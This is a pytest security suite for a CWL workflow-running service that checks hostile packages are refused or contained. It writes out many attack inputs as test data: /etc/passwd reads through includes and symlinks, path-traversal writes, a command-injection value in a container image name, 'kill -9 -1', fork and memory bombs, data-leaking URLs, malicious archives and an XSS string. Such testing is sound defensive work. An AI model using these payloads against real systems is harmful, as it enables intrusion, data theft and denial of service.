"""Hostile packages are refused, or contained: nothing of the host is read, written or left running, and it says why."""

from __future__ import annotations

import io
import json
import os
import re
import tarfile
import textwrap
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cwl.conftest import LIMITS, SECRET, needs_sandbox  # type: ignore[import-not-found]
from support.at_work import at_work
from support.hostile import (
    Json,
    Site,
    deploy,
    expression,
    glob,
    outputs,
    run,
    send,
    text,
    tool,
    workflow,
)
from support.mills import Mill, serving
from support.others import needs_another_user
from support.variants import first
from support.waiting import until

from geomill.app.config import Settings
from geomill.jobstore import Status

JS = "InlineJavascriptRequirement"
O = {"o": glob("o")}  # noqa: E741
FOLDER = {"d": glob("d", "Directory")}
MAKE_O = "open('o', 'w').write('done')"


def staged(*listing: Any) -> Json:
    """What a tool finds in its folder."""
    return {"InitialWorkDirRequirement": {"listing": list(listing)}, JS: {}}


def then(first: Json, second: Json) -> Json:
    """A tool that gives a directory d, and one that takes it and gives a file o."""
    steps = {
        "first": {"run": first, "in": {}, "out": ["d"]},
        "second": {"run": second | {"inputs": {"d": "Directory"}}, "in": {"d": "first/d"}, "out": ["o"]},
    }
    return workflow(steps, {"o": {"type": "File", "outputSource": "second/o"}})


def leading_to(victim: Path) -> Json:
    """A tool that gives a directory with a link that leads out."""
    return tool(f"import os; os.mkdir('d'); os.symlink('{victim}', 'd/out'); open('d/x', 'w')", FOLDER)


# ---- at deployment

ALIASES = list(zip("abcdefgh", "bcdefghi", strict=True))
ECHO = "cwlVersion: v1.2\nclass: CommandLineTool\nbaseCommand: echo\n"
REFUSED = {
    "an include": (ECHO + "inputs: []\noutputs: []\ndoc: {$include: /etc/hostname}\n", "$include"),
    "an import of a file": (ECHO + "inputs: []\noutputs: [{$import: file:///etc/hostname}]\n", "$import"),
    "an import of a page": (ECHO + "inputs: {$import: 'http://10.0.0.1/x.yml'}\noutputs: []\n", "$import"),
    "a mixin": (ECHO + "inputs: []\noutputs: []\n$mixin: http://10.0.0.1/x\n", "$mixin"),
    "a file of the host": (
        ECHO + "inputs: {a: {type: File, default: {class: File, location: /etc/passwd}}}\noutputs: []\n", "etc/passwd"
    ),
    "a file of the host by its path": (
        ECHO + "inputs: {a: {type: File, default: {class: File, path: ../../x}}}\noutputs: []\n", "x"
    ),
    "a directory of the host": (
        ECHO + "inputs: {a: {type: Directory, default: {class: Directory, location: 'file:///etc'}}}\noutputs: []\n",
        "etc",
    ),
    "a file of the host to be staged": (
        ECHO + "inputs: []\noutputs: []\nrequirements:\n  InitialWorkDirRequirement:\n    listing:\n"
        "      - {class: File, location: 'file:///etc/passwd'}\n", "etc/passwd",
    ),
    "a bomb of aliases": (
        "cwlVersion: v1.2\nclass: CommandLineTool\na: &a [x, x, x, x, x, x, x, x, x, x]\n"
        + "".join(f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n" for a, b in ALIASES),
        "",
    ),
    "an alias of itself": ("cwlVersion: v1.2\nclass: CommandLineTool\ninputs: &a [*a]\noutputs: []\n", ""),
    "brackets in brackets": (ECHO + "inputs: " + "[" * 3_000 + "]" * 3_000 + "\noutputs: []\n", "deep"),
    "braces in braces": ('{"a": ' * 100_000 + "1" + "}" * 100_000, ""),
    "a number without an end": (ECHO + "inputs: []\noutputs: []\nsuccessCodes: [" + "9" * 400_000 + "]\n", ""),
    "a process of cwltool's own": (
        "cwlVersion: v1.2\nclass: ProcessGenerator\ninputs: []\noutputs: []\nrun: {}\n", "ProcessGenerator"
    ),
    "a step of cwltool's own": (
        "cwlVersion: v1.2\nclass: Workflow\ninputs: []\noutputs: []\nsteps:\n  s: {in: [], out: [], run: {class: "
        "'http://commonwl.org/cwltool#ProcessGenerator', inputs: [], outputs: [], run: {}}}\n", "",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", first(REFUSED, 6))
def test_a_package_that_reaches_out_or_explodes_is_refused(server: Mill, name: str, case: str) -> None:
    document, said = REFUSED[case]
    reply = send(server, document.encode(), name)
    detail = reply.json()["detail"]
    assert reply.status in (400, 422), detail
    assert said in detail
    assert "/tmp/" not in detail and "Traceback" not in detail and len(detail) < 2000


@pytest.mark.parametrize("where", ["http://10.0.0.1/x", "../x.cwl", "file:///etc/hostname", "/etc/hostname", "x.cwl#y"])
def test_a_step_that_is_not_in_the_package_is_refused(server: Mill, name: str, where: str) -> None:
    document = workflow({"s": {"run": where, "in": {}, "out": []}}, {})
    reply = send(server, document, name)
    assert (reply.status, where in reply.json()["detail"]) == (400, True), reply.data


# ---- files of the host


def reading(victim: Path) -> dict[str, Json]:
    """Packages that want to read what is not theirs."""
    secret = f"{victim}/secret.txt"
    give = f"return {{o: {{class: 'File', location: 'file://{secret}'}}}};"
    folder = f"{{class: 'Directory', location: 'file://{victim}'}}"
    read = "import shutil; shutil.copy('d/out/secret.txt', 'o')"
    link = f"import os; os.symlink('{secret}', 'o')"
    other = f"import os; os.mkdir('d'); os.mkdir('e'); os.symlink('../e', 'd/a'); os.symlink('{victim}', 'e/x')"
    said = {"o": {"class": "File", "location": f"file://{secret}"}}
    contents = {"o": {"type": "string", "outputBinding": {"glob": "o", "loadContents": True,
                                                          "outputEval": "$(self[0].contents)"}}}  # fmt: skip
    beside = {"o": glob("o") | {"secondaryFiles": [f"../../../../../../../..{secret}"]}}
    return {
        "an expression": expression(give, {"o": "File"}),
        "an expression with a path": expression(give.replace("location", "path").replace("file://", ""), {"o": "File"}),
        "an expression with a folder": expression(f"return {{o: {folder}}};", {"o": "Directory"}),
        "a listing": expression(
            f"return {{o: {{class: 'Directory', basename: 'q', listing: [{folder}]}}}};", {"o": "Directory"}
        ),
        "a link": tool(link, O),
        "a link that is read": tool(link, contents, requirements={JS: {}}),
        "a link in a folder": leading_to(victim),
        "a link to a folder with a link": tool(other, FOLDER),
        "a link in a folder with a listing": tool(
            f"import os; os.mkdir('d'); os.symlink('{victim}', 'd/out')",
            {"d": {"type": "Directory", "outputBinding": {"glob": "d", "loadListing": "deep_listing"}}},
            requirements={"LoadListingRequirement": {"loadListing": "deep_listing"}},
        ),
        "a pattern from the root": tool("", {"o": glob(secret)}),
        "a pattern that goes up": tool("", {"o": glob(f"../../../../../../../../..{secret}")}),
        "a pattern through a link": tool(f"import os; os.symlink('{victim}', 'd')", {"o": glob("d/secret.txt")}),
        "a pattern through a link, unclear": tool(f"import os; os.symlink('{victim}', 'd')", {"o": glob("?/secret*")}),
        "cwl.output.json": tool(f"open('cwl.output.json', 'w').write({json.dumps(said)!r})", {"o": "File"}),
        "cwl.output.json as a link": tool(f"import os; os.symlink('{secret}', 'cwl.output.json')", {"o": "File"}),
        "a file beside": tool(MAKE_O, beside),
        "a folder to write to": then(leading_to(victim), tool(
            read, O, requirements=staged({"entry": "$(inputs.d)", "writable": True})
        )),
        "a file of an expression": workflow(
            {
                "first": {"run": expression(give, {"o": "Any"}), "in": {}, "out": ["o"]},
                "second": {
                    "run": tool("import sys, shutil; shutil.copy(sys.argv[1], 'o')", O,
                                {"f": {"type": "File", "inputBinding": {}}}),
                    "in": {"f": "first/o"}, "out": ["o"],
                },
            },
            {"o": {"type": "File", "outputSource": "second/o"}},
        ),
        "its errors": tool(
            f"import os, sys; os.unlink('e'); os.symlink('{secret}', 'e'); sys.exit(1)", {}, stderr="e"
        ),
        "its input": tool(MAKE_O, O, stdin=secret),
    }  # fmt: skip


@pytest.mark.parametrize("case", reading(Path("/")))
def test_a_file_of_the_host_is_not_read(server: Mill, name: str, victim: Path, case: str) -> None:
    status = run(server, reading(victim)[case], name)
    assert status["status"] == "failed"
    assert SECRET not in text(server, status["jobID"])
    assert len(status["message"]) > 20 and "Traceback" not in status["message"]


def writing(victim: Path) -> dict[str, Json]:
    """Packages that want to write what is not theirs."""
    up = f"../../../../../../../../../..{victim}/new"
    give = f"${{return {{class: 'File', basename: 'new', contents: 'x', dirname: '{victim}'}}}}"
    inner = f"{{class: 'File', basename: '{up}', contents: ''}}"
    nested = f"${{return {{class: 'Directory', basename: 'q', listing: [{inner}]}}}}"
    replaced = f"import os, shutil; shutil.rmtree('a'); os.symlink('{victim}', 'a'); open('o', 'w')"
    make = "import os; os.makedirs('d/sub'); open('d/sub/x', 'w')"
    return {
        "a name that goes up": tool(MAKE_O, O, requirements=staged({"entryname": up, "entry": "x"})),
        "a name from the root": tool(MAKE_O, O, requirements=staged({"entryname": f"{victim}/new", "entry": "x"})),
        "a name in a listing": tool(MAKE_O, O, requirements=staged(nested)),
        "a folder that is given": tool(MAKE_O, O, requirements=staged(give)),
        "its output": tool(MAKE_O, O, stdout=up),
        "its output from the root": tool(MAKE_O, O, stdout=f"{victim}/new"),
        "its errors": tool(MAKE_O, O, stderr=up),
        "through a link": then(leading_to(victim), tool(
            MAKE_O, O, requirements=staged("$(inputs.d)", {"entryname": "d/out/new", "entry": "x"})
        )),
        "its output through a link": then(leading_to(victim), tool(
            MAKE_O, O, requirements=staged("$(inputs.d)"), stdout="d/out/new"
        )),
        "where its folder was": then(tool(make, FOLDER), tool(
            replaced, O, requirements=staged({"entryname": "a/sub", "entry": "$(inputs.d)"})
        )),
        "where its file was": then(tool(make, FOLDER), tool(
            replaced, O, requirements=staged({"entryname": "a/secret.txt", "entry": "$(inputs.d)"})
        )),
    }  # fmt: skip


@pytest.mark.parametrize("case", writing(Path("/")))
def test_a_file_of_the_host_is_not_written(server: Mill, name: str, victim: Path, case: str) -> None:
    reply = send(server, writing(victim)[case], name)
    if reply.status == 201:  # the victim tells
        job_id = server.submit(name)
        assert server.ended(job_id, 30).message or outputs(server, job_id)
    else:
        assert reply.status in (400, 422), reply.data


def test_another_job_is_out_of_reach(server: Mill, name: str) -> None:
    first = run(server, tool(f"open('o', 'w').write('{SECRET}')", O), name)
    folder = server.store.folder(first["jobID"])
    script = f"import os; print(os.path.exists('{folder}')); os.symlink('{folder}/outputs/o', 'o')"
    status = run(server, tool(script, O), f"{name}-other")
    assert status["status"] == "failed"
    assert SECRET not in text(server, status["jobID"])
    assert b"True" not in server.call("GET", f"/jobs/{status['jobID']}/logs").data


# ---- the network


def test_a_file_that_the_package_names_is_fetched_through_the_guard(
    server: Mill, name: str, web: Site, closed_web: Site
) -> None:
    def copying(address: str) -> Json:
        default = {"class": "File", "location": address}
        copy = "import shutil, sys; shutil.copy(sys.argv[1], 'o')"
        return tool(copy, O, {"f": {"type": "File", "default": default, "inputBinding": {}}})

    status = run(server, copying(web.page("/default.txt", b"hello")), name)
    assert status["status"] == "successful", status
    assert outputs(server, status["jobID"])[0].read_text() == "hello"
    status = run(server, copying(closed_web.page("/default.txt", SECRET.encode())), f"{name}-closed")
    assert (status["status"], closed_web.asked) == ("failed", [])
    assert "is not a public address" in status["message"]


def test_a_package_tells_nobody_anything_by_an_address(server: Mill, name: str, web: Site) -> None:
    telling = expression(f"return {{o: {{class: 'File', location: '{web.url}/told?' + inputs.s}}}};", {"o": "File"},
                         {"s": "string"})  # fmt: skip
    steps = {
        "first": {"run": telling, "in": {"s": "s"}, "out": ["o"]},
        "second": {"run": tool(MAKE_O, O, {"f": "File"}), "in": {"f": "first/o"}, "out": ["o"]},
    }
    document = workflow(steps, {"o": {"type": "File", "outputSource": "second/o"}}, {"s": "string"})
    status = run(server, document, name, s=SECRET.replace(" ", ""))
    assert status["status"] == "failed"
    assert not [path for path in web.asked if path.startswith("/told")]


def test_no_port_of_the_host_is_reached(server: Mill, name: str, closed_web: Site) -> None:
    script = f"""
        import urllib.request
        open('o', 'wb').write(urllib.request.urlopen('{closed_web.page("/inside", SECRET.encode())}').read())
    """
    status = run(server, tool(script, O), name)
    assert (status["status"], "/inside" in closed_web.asked) == ("failed", False)


# ---- too much of everything


BOMBS: dict[str, tuple[Json, str]] = {
    "a large file": (tool("""
        with open('o', 'wb') as file:
            while True:
                file.write(bytes(1 << 20))
    """, O), "SIGXFSZ|signal 25|exit code 153|exit code 1|File too large"),
    "a sparse file": (tool("import os; os.truncate(os.open('o', os.O_CREAT | os.O_WRONLY), 1 << 40)", O),
                      "SIGXFSZ|signal 25|exit code 153|exit code 1|File too large"),
    "deep folders": (tool("""
        import os
        os.mkdir('d'); os.chdir('d')
        for _ in range(1200):
            os.mkdir('d'); os.chdir('d')
    """, FOLDER), "nested deeper"),
    "folders in a ring": (tool("import os; os.mkdir('d'); os.symlink('..', 'd/up')", FOLDER), "link up"),
    "folders in rings": (tool("""
        import os
        os.mkdir('d'); os.mkdir('e'); os.symlink('../e', 'd/e'); os.symlink('../d', 'e/d'); os.symlink('.', 'e/e')
    """, FOLDER), "link [de] leads"),
    "a pipe for a file": (tool("import os; os.mkfifo('o')", O), "Directory"),
    "a pipe that is read": (
        tool("import os; os.mkfifo('o')", {"o": {"type": "string", "outputBinding": {
            "glob": "o", "loadContents": True, "outputEval": "$(self[0].contents)"}}}, requirements={JS: {}}), ""),
    "a pipe as cwl.output.json": (tool("import os; os.mkfifo('cwl.output.json')", O), "regular file"),
    "a pipe in a folder": (tool("import os; os.mkdir('d'); os.mkfifo('d/p')", FOLDER), "regular file"),
    "a pipe in a folder that is handed on": (
        then(tool("import os; os.mkdir('d'); os.mkfifo('d/p')", FOLDER), tool(MAKE_O, O)), "regular file"),
    "no JSON": (tool("open('cwl.output.json', 'w').write('[' * 100000)", O), ""),
    "a number that is none": (tool("open('cwl.output.json', 'w').write('{\"o\": NaN}')", {"o": "float"}), "NaN"),
    "a number without an end": (
        tool("open('cwl.output.json', 'w').write('{\"o\": ' + '9' * 5000 + '}')", {"o": "Any"}), "number|digits|int"),
    "a value that is too deep": (
        tool("open('cwl.output.json', 'w').write('{\"o\": ' + '[' * 500 + ']' * 500 + '}')", {"o": "Any"}), "deep"),
    # one that computes for as long as any may, which takes ten seconds; others are in test_javascript
    "an endless script": (
        expression("return {o: /^(a+)+$/.test('a'.repeat(40) + 'b')};", {"o": "boolean"}), "stopped after"),
    "a script that wants it all": (
        expression("var a = []; while (true) { a.push(new Array(100000).fill(1)); }", {"o": "Any"}), "memory"),
    "a script that says too much": (expression("throw new Error('x'.repeat(1e8));", {"o": "Any"}), "xxx"),
    "a script without a ground": (expression("function f() { return f() + 1; } return f();", {"o": "Any"}), "stack"),
    "its own end": (tool("import os; os.kill(os.getppid(), 9); os.kill(os.getpid(), 9)", O), "step"),
    "everybody's end": (tool("import os; os.system('kill -9 -1'); os.kill(os.getpid(), 9)", O), "step"),
    "no program": (tool("", O) | {"baseCommand": ["/nowhere/program"]}, "program"),
    "a null character": (tool("", O) | {"arguments": ["a\0b"]}, "null|NUL|#x0000"),
    "a variable without a name": (
        tool(MAKE_O, O, requirements={"EnvVarRequirement": {"envDef": {"": "x", "A=B": "x"}}}), ""),
    "a library in front": (
        tool(MAKE_O, O, requirements={"EnvVarRequirement": {"envDef": {"LD_PRELOAD": "/nowhere.so", "PATH": "/nowhere",
             "PYTHONPATH": "/nowhere", "BASH_ENV": "/nowhere", "ENV": "/nowhere"}}}), "SUCCESS"),
    "an image with a command": (
        tool(MAKE_O, O, requirements={"DockerRequirement": {"dockerPull": "x; touch pwned `id` $(id)"}}), "SUCCESS"),
}  # fmt: skip
LONG = ("an endless script",)


@pytest.mark.parametrize("case", first([each for each in BOMBS if each not in LONG] + list(LONG), 10))
def test_what_is_too_much_fails_its_job_alone(server: Mill, name: str, case: str) -> None:
    document, said = BOMBS[case]
    reply = send(server, document, name)
    if reply.status != 201:
        assert reply.status in (400, 422), reply.data
        assert re.search(said, reply.json()["detail"])
        return
    job_id = server.submit(name)
    info = server.ended(job_id, 180)
    message = info.message or ""
    assert (info.status is Status.SUCCESSFUL) == (said == "SUCCESS"), message
    assert said == "SUCCESS" or re.search(said, message), message
    # killed by signal 9 while the kernel ended somebody for want of memory, as another test here has it do
    starved = info.cause == "out-of-memory" and "the kernel had no memory left" in message
    assert starved or info.cause in (None, "exit", "result", "bad-input"), message
    assert ", in main" not in message and str(server.settings.home) not in message
    folder = server.store.folder(job_id)
    until(lambda: not at_work(job_id))
    assert not (folder / "work").exists()
    assert server.call("DELETE", f"/jobs/{job_id}").status == 200
    assert not folder.exists()


@pytest.mark.parametrize("case", ["folders in a ring", "deep folders"])
def test_where_a_tool_ended_well_what_it_gave_is_the_cause(server: Mill, name: str, case: str) -> None:
    assert send(server, BOMBS[case][0], name).status == 201
    info = server.ended(server.submit(name))
    assert (info.status, info.cause) == (Status.FAILED, "result"), info.message


@pytest.mark.thorough
def test_a_package_of_many_processes_is_held_to_its_share(tmp_path: Path, name: str) -> None:
    needs_sandbox()
    script = """
        import os, time
        made = 0
        try:
            while made < 200:
                if os.fork() == 0:
                    time.sleep(600)
                made += 1
        except OSError as error:
            print('no more after', made, error.strerror)
        open('o', 'w').write(str(made))
    """
    more = {}
    if os.geteuid() == 0:  # who is not limited
        needs_another_user(tmp_path)
        more = {"job_user": "nobody"}
    with serving(Settings(home=tmp_path / "home", runtime_dir=tmp_path / "run"), **LIMITS, **more) as mill:
        status = run(mill, tool(script, O), name)
        assert status["status"] == "successful", text(mill, status["jobID"])
        assert int(outputs(mill, status["jobID"])[0].read_text()) < 64
        until(lambda: not at_work(status["jobID"]))


@pytest.mark.parametrize("end", ["sys.exit(3)", "open('o', 'w')"])
def test_of_a_log_without_an_end_the_beginning_and_the_end_are_kept(server: Mill, name: str, end: str) -> None:
    script = f"""
        import os, sys
        print('the beginning', file=sys.stderr, flush=True)
        for _ in range(200):
            os.write(2, b'.' * (1 << 20))
        print('the end', file=sys.stderr, flush=True)
        {end}
    """
    status = run(server, tool(script, O), name)
    (log,) = (server.store.folder(status["jobID"]) / "logs").glob("[!n]*.log")
    content = log.read_bytes()
    assert len(content) < 17 << 20
    assert (b"the beginning" in content, b"cut off here" in content, b"the end" in content[-100:]) == (True, True, True)
    if status["status"] == "failed":
        assert "the end" in status["message"] and "exit code 3" in status["message"]


def test_a_value_that_is_large_is_a_file(server: Mill, name: str) -> None:
    script = "import json; json.dump({'o': 'x' * (3 << 20)}, open('cwl.output.json', 'w'))"
    status = run(server, tool(script, {"o": "string"}), name)
    assert status["status"] == "successful", status
    assert [path.stat().st_size for path in outputs(server, status["jobID"])] == [3 << 20]


CATALOGS = {
    "of itself": """
        catalog('catalog.json', [('child', 'catalog.json')] * 100 + [('child', './x/../catalog.json')])
    """,
    "of each other": """
        names = [f'{n}.json' for n in range(10)]
        for name in ('catalog.json', *names):
            catalog(name, [('child', other) for other in names])
    """,
    "of elsewhere": """
        catalog('catalog.json', [('item', '/etc/passwd'), ('item', '../../../etc/passwd'), ('item', 'http://10.0.0.1/x'),
                                 ('item', 'file:///etc/passwd'), ('child', '..'), ('item', None), ('item', 5)])
    """,
    "of many": """
        catalog('catalog.json', [('item', f'{n}.json') for n in range(100_000)])
    """,
    "of a pipe": """
        catalog('catalog.json', [('item', 'sub')]); os.mkdir('d/sub')
    """,
}


@pytest.mark.parametrize("case", first(CATALOGS, 3))
def test_a_catalog_leads_nowhere_else_and_comes_to_an_end(server: Mill, name: str, case: str) -> None:
    script = """
import json, os
os.mkdir('d')
def catalog(name, links):
    links = [{'rel': rel, 'href': href} for rel, href in links]
    json.dump({'type': 'Catalog', 'id': name, 'links': links}, open(f'd/{name}', 'w'))
""" + textwrap.dedent(CATALOGS[case])
    status = run(server, tool(script, FOLDER), name)
    assert status["status"] == "successful", status
    reply = server.call("GET", f"/jobs/{status['jobID']}/results/d")
    assert reply.json() == {"type": "FeatureCollection", "features": [], "id": status["jobID"]}


def test_a_tool_that_leaves_processes_is_over_when_it_ends(server: Mill, name: str) -> None:
    script = """
        import os, signal, time
        for number in (signal.SIGTERM, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    time.sleep(1)
            os._exit(0)
        open('o', 'w').write('done')
    """
    status = run(server, tool(script, O), name)
    assert status["status"] == "successful", status
    until(lambda: not at_work(status["jobID"]))


# ---- what is served


def test_nothing_that_a_tool_gives_is_a_page_of_this_server(server: Mill, name: str) -> None:
    page = "<script>alert(1)</script>"
    script = f"import os; print('{page}'); os.mkdir('d'); [open(n, 'w').write('{page}') for n in ('o.html', 'd/o.svg')]"
    given = {"o": glob("o.html"), "d": glob("d", "Directory")}
    status = run(server, tool(script, given, label=page, doc=page), name)
    assert status["status"] == "successful", status
    job = f"/jobs/{status['jobID']}"
    links = [link["href"].removeprefix(server.url) for link in status["links"] if "/logs/" in link["href"]]
    for path in (f"{job}/results/o", *links):
        reply = server.call("GET", path, Accept="text/html, */*;q=0.1")
        assert reply.status == 200, path
        assert "sandbox" in reply.headers["Content-Security-Policy"], path
        assert reply.headers["X-Content-Type-Options"] == "nosniff"
    for path in (f"/processes/{name}", job, f"{job}/events"):
        reply = server.call("GET", path, Accept="text/html")
        assert reply.headers["Content-Type"].startswith("application/json") or page.encode() not in reply.data


# ---- inputs by reference


def zipped(**members: bytes) -> bytes:
    """A zip."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as file:
        for member, data in members.items():
            file.writestr(member, data)
    return content.getvalue()


def tarred(*members: tarfile.TarInfo) -> bytes:
    """A tar of members without content."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as file:
        for member in members:
            file.addfile(member, io.BytesIO(bytes(member.size)))
    return content.getvalue()


def member(path: str, kind: bytes = tarfile.REGTYPE, link: str = "", size: int = 0) -> tarfile.TarInfo:
    """A member of a tar."""
    found = tarfile.TarInfo(path)
    found.type, found.linkname, found.size = kind, link, size
    return found


ARCHIVES: dict[str, Callable[[], bytes]] = {
    "a zip that is broken": lambda: zipped(a=b"hello" * 1000)[:30] + b"x" * 20 + zipped(a=b"hello" * 1000)[50:],
    "a zip of a name that is too long": lambda: zipped(**{"n" * 300: b""}),
    "a tar that ends too early": lambda: tarred(member("a", size=1 << 20))[:-400],
    "a tar that goes up": lambda: tarred(member("../../../out")),
    "a tar with a link out": lambda: tarred(member("a", tarfile.SYMTYPE, "/etc")),
    "a tar with a link up": lambda: tarred(member("a", tarfile.SYMTYPE, ".."), member("a/out")),
    "a tar with a device": lambda: tarred(member("a", tarfile.CHRTYPE)),
    "a tar with a pipe": lambda: tarred(member("a", tarfile.FIFOTYPE)),
    "a tar that is deep": lambda: tarred(member("/".join("d" * 1500))),
    "a tar of many": lambda: tarred(*(member(str(n)) for n in range(10_001))),
}


@pytest.mark.parametrize("case", ARCHIVES)
def test_an_archive_that_is_none_or_leads_out_is_a_bad_input(server: Mill, name: str, web: Site, case: str) -> None:
    deploy(server, tool(MAKE_O, O, {"d": "Directory"}), name)
    page = web.page(f"/{name}", ARCHIVES[case]())
    job_id = server.submit(name, d={"href": page})
    info = server.ended(job_id, 30)
    assert (info.status, info.cause) == (Status.FAILED, "bad-input"), info
    assert (info.message or "").startswith("d: ") and str(server.settings.home) not in (info.message or "")
    assert server.call("GET", f"/jobs/{job_id}/results").status == 400


@pytest.mark.parametrize("last", ["..", "%2e%2e%2f%2e%2e%2fx", "%00%0a%1b", "%f0%9f%90%8a" * 130, "a" * 400, ".hidden"])
def test_the_name_of_an_input_stays_in_its_folder(server: Mill, name: str, web: Site, last: str) -> None:
    script = "import os, sys; open('o', 'w').write(os.path.basename(sys.argv[1]) + ' ' + open(sys.argv[1]).read())"
    deploy(server, tool(script, O, {"f": {"type": "File", "inputBinding": {}}}), name)
    page = web.page(f"/{name}/{last}", b"hello")
    job_id = server.submit(name, f={"href": page})
    info = server.ended(job_id, 30)
    if info.status is Status.SUCCESSFUL:
        assert outputs(server, job_id)[0].read_text().endswith(" hello")
    else:
        assert info.cause == "bad-input", info
